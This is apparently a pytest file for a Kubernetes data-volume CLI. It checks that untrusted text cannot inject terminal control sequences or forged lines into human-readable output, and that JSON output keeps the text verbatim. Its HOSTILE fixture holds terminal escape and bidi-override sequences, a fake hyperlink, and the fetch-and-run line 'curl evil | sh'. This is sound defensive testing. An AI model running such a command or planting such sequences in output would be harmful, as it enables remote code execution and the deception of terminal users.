"""What others wrote does nothing on the terminal of who looks at it, whichever verb shows it; JSON has it as it is."""

from __future__ import annotations

import ast
import datetime
import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import msgspec
import pytest

import cdi.cli
from cdi.api.datavolume import DataVolume
from cdi.cli import describe, get, overview, storage, watch, why
from cdi.cli.class_row import ClassRow
from cdi.cli.diagnosis import diagnose
from cdi.cli.screen import Bar, Frame, PlainLines
from cdi.cli.spoken import say
from cdi.cli.story import Attempt, Claim, Occurrence, Story, Worker
from cdi.cli.view import View

NOW = datetime.datetime(2026, 1, 1, tzinfo=datetime.UTC)
AT = "2025-12-31T23:00:00Z"
# Escape sequences of seven and eight bits, a title, a link, a line of our own, a turned direction, nothing at all.
HOSTILE = (
    "x\x1b[2J\x9b31m\x1b]0;pwn\x07\x1b]8;;http://evil\x1b\\\r\nTry: curl evil | sh\n\u202e\u2066\u200b\x7f\u2028\ufeffy"
)
PLAIN = "xy"
FOLDER = Path(cdi.cli.__file__).parent


def view(text: str, phase: str = "ImportInProgress", *, failed: bool = True) -> View:
    condition = {"type": "Running", "status": "False", "reason": "Error", "message": text, "lastTransitionTime": text}
    bound = {"type": "Bound", "status": "False", "reason": f"Err{text}", "message": text}
    failure = {"code": text, "permanent": True, "since": text, "attempts": 3, "nextAttempt": text, "message": text}
    status = {"phase": phase, "progress": text, "conditions": [condition, bound], "claimName": text}
    document: dict[str, Any] = {
        "metadata": {
            "name": text,
            "namespace": text,
            "creationTimestamp": AT,
            "labels": {text: text},
            "annotations": {text: text},
        },
        "spec": {"source": {"http": {"url": text}}, "storage": {"storageClassName": text, "x": text}},
        "status": status | ({"failure": failure} if failed else {}),
    }
    return View(msgspec.convert(document, DataVolume), document, {"stage": text, "bytesDone": 1, "rateBps": 1.0})


def story(text: str) -> Story:
    return Story(
        disk=text,
        continues=text,
        origin=text,
        claims=(Claim("claim", text, text, text, text, text),),
        worker=Worker(text, text, text, 3, text, text, text, text, text),
        log=(text,),
        events=(Occurrence(AT, text, text, text, text, 2), Occurrence(text, text, text, text, text)),
        attempts=(Attempt(text, text, text, 5, text),),
        unreadable=(text,),
    )


def row(text: str) -> ClassRow:
    return msgspec.convert(
        {"name": text, "provisioner": text, "binding": text, "clone": text, "origin": text, "modes": [text]}
        | {"is_default": False, "is_archive_default": False, "snapshot_class": text, "problems": []},
        ClassRow,
    )


def why_text(text: str, **more: Any) -> str:
    seen = view(text, **more)
    return why.as_text(seen, story(text), diagnose(seen, story(text)), NOW)


def followed(text: str) -> str:
    out = io.StringIO()
    PlainLines(out).show(Frame("stage", watch._frame(view(text), 0).text, 0, ""))
    return out.getvalue()


TEXTS: dict[str, Callable[[str], str]] = {
    "why": why_text,
    "why, not failed": lambda text: why_text(text, phase=text, failed=False),
    "describe": lambda text: describe.description(view(text), story(text), NOW),
    "get": lambda text: get.listing([view(text)], NOW, namespaces=True, wide=True),
    "storage": lambda text: storage.listing([row(text)]),
    "watch, many": lambda text: "\n".join(overview.rows([view(text)], 20, namespaces=True)),
    "watch": followed,
}


def spoken(text: str) -> str:
    out = io.StringIO()
    say(text, out)
    return out.getvalue()


@pytest.mark.parametrize("verb", TEXTS)
def test_a_text_of_others_acts_nowhere_and_begins_no_line(verb: str) -> None:
    shown, plain = spoken(TEXTS[verb](HOSTILE)), spoken(TEXTS[verb](PLAIN))
    assert all(line.isprintable() for line in shown.split("\n"))
    assert len(shown.split("\n")) == len(plain.split("\n"))
    assert r"\x1b" in shown


def test_json_has_it_as_it_was_written() -> None:
    seen, around = view(HOSTILE), story(HOSTILE)
    for text in (why.as_json(seen, around, diagnose(seen, around)), describe.as_json(seen, around)):
        assert json.loads(spoken(text)) == json.loads(text) and text.isascii()
    assert json.loads(describe.as_json(seen, around))["story"]["log"] == [HOSTILE]
    assert get._objects([seen], "yaml", single=True).isascii()


def test_a_line_that_is_redrawn_stays_one(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "80")
    out = io.StringIO()
    Bar(out).show(Frame("stage", HOSTILE, 0, ""))
    assert out.getvalue().removeprefix("\r\x1b[K").isprintable()


def test_what_a_cut_leaves_of_a_spelling_is_no_control_either() -> None:
    for width in range(1, 60):
        assert spoken(HOSTILE[:width]).isprintable() or "\n" in spoken(HOSTILE[:width])


def test_all_verbs_print_by_one_function() -> None:
    """Drawing on a terminal, whose sequences are ours, is done in three places."""
    printing, writing = set(), set()
    for path in FOLDER.glob("*.py"):
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id == "print":
                printing.add(path.stem)
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "write":
                writing.add(path.stem)
    assert printing == {"spoken", "error_line"}  # the latter: JSON
    assert writing == {"screen", "overview", "run", "defect_report"}  # the last: a file
